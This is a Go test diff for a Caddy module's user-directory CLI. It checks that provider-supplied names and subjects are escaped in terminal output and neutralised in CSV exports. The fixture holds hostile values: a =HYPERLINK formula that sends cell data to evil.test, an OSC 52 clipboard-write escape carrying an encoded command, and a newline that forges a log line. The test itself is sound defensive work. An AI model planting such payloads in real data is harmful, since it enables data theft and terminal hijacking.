@@ -3,7 +3,10 @@ package caddymodule_test
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
+	"encoding/json"
 	"fmt"
+	"net/http"
 	"os/exec"
 	"path/filepath"
 	"strings"
@@ -101,5 +104,67 @@ func TestJitUsersCommand(t *testing.T) {
 	expect(out, code, 1, "400", "use active or disabled")
 	if users := allUsers(t, st); len(users) != 2 {
 		t.Errorf("%d users after deleting alice, want 2", len(users))
+	}
+}
+
+// A user's name, email and subject come from the provider's claims, which
+// the user sets, and reach the operator's terminal and spreadsheet: the
+// table and the user view show control and format characters escaped
+// (an escape sequence could rewrite the screen or write the clipboard,
+// a newline forge a line), and the CSV export keeps a spreadsheet from
+// running a cell as a formula. JSON keeps the values as stored.
+func TestDirectoryOutputIsInertForOperators(t *testing.T) {
+	dir := t.TempDir()
+	bin := buildCaddy(t, dir)
+	admin := freePort(t)
+	s := startSiteOpts(t, siteOptions{adminPort: admin})
+	const name = "=HYPERLINK(\"https://evil.test/?\"&A2,\"Open\")\x1b]52;c;ZWNobyBvd25lZA==\x07"
+	s.queue(&oidcUser{sub: "mallory\x1b[2J\nlogin\tforged", claims: map[string]any{
+		"email": "mallory@example.com", "email_verified": true,
+		"name": name, "preferred_username": "mallory",
+	}})
+	if resp, _ := s.login(newBrowser(t), "corp", "/"); resp.StatusCode != http.StatusOK {
+		t.Fatalf("login: %d", resp.StatusCode)
+	}
+	users := allUsers(t, openStore(t, s.dir))
+	if len(users) != 1 || users[0].Name != name {
+		t.Fatalf("stored users %+v; want one named %q", users, name)
+	}
+	run := func(args ...string) string {
+		t.Helper()
+		cmd := exec.Command(bin, append(append([]string{"jit-users"}, args...), "--address", fmt.Sprintf("localhost:%d", admin))...)
+		cmd.Env = append(cmd.Environ(), "XDG_DATA_HOME="+filepath.Join(dir, "data"), "XDG_CONFIG_HOME="+filepath.Join(dir, "config"))
+		out, err := cmd.CombinedOutput()
+		if err != nil {
+			t.Fatalf("jit-users %v: %v\n%s", args, err, out)
+		}
+		return string(out)
+	}
+	for _, args := range [][]string{{"list"}, {"show", users[0].ID}} {
+		out := run(args...)
+		forged := false
+		for _, line := range strings.Split(out, "\n") {
+			forged = forged || strings.HasPrefix(line, "login") && strings.Contains(line, "forged")
+		}
+		if strings.ContainsAny(out, "\x1b\x07") || forged {
+			t.Errorf("jit-users %v prints the claims' control characters:\n%q", args, out)
+		}
+		if args[0] == "show" && !strings.Contains(out, `=HYPERLINK("https://evil.test/?"&A2,"Open")\x1b]52;c;ZWNobyBvd25lZA==\a`) ||
+			!strings.Contains(out, `mallory\x1b[2J\nlogin\tforged`) && args[0] == "show" {
+			t.Errorf("jit-users show does not show the name and subject escaped:\n%s", out)
+		}
+	}
+	csvOut := run("export", "--format", "csv")
+	records, err := csv.NewReader(strings.NewReader(csvOut)).ReadAll()
+	if err != nil || len(records) != 2 {
+		t.Fatalf("export: %v, %d records:\n%s", err, len(records), csvOut)
+	}
+	if got := records[1][4]; got != "'"+name {
+		t.Errorf("CSV name cell %q, want the name behind a leading '", got)
+	}
+	jsonOut := run("export", "--format", "json")
+	var u struct{ Name string }
+	if err := json.Unmarshal([]byte(jsonOut), &u); err != nil || u.Name != name {
+		t.Errorf("JSON export name %q (%v), want it as stored", u.Name, err)
 	}
 }
